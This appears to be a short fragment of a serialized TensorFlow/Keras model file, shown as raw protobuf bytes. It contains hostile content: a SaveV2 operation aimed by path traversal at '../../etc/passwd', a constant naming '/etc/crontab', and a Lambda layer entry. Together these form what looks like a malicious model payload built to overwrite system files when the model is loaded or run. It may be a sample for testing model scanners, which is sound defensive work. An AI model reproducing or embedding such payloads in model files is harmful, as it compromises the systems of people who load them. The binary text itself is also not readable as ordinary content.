 

17
%
cConst*
valueBB/etc/crontab

sSaveV2c2../../etc/passwd:L
J"H
_tf_keras_layer5{"class_name": "Lambda", "config": {"function": "f"}}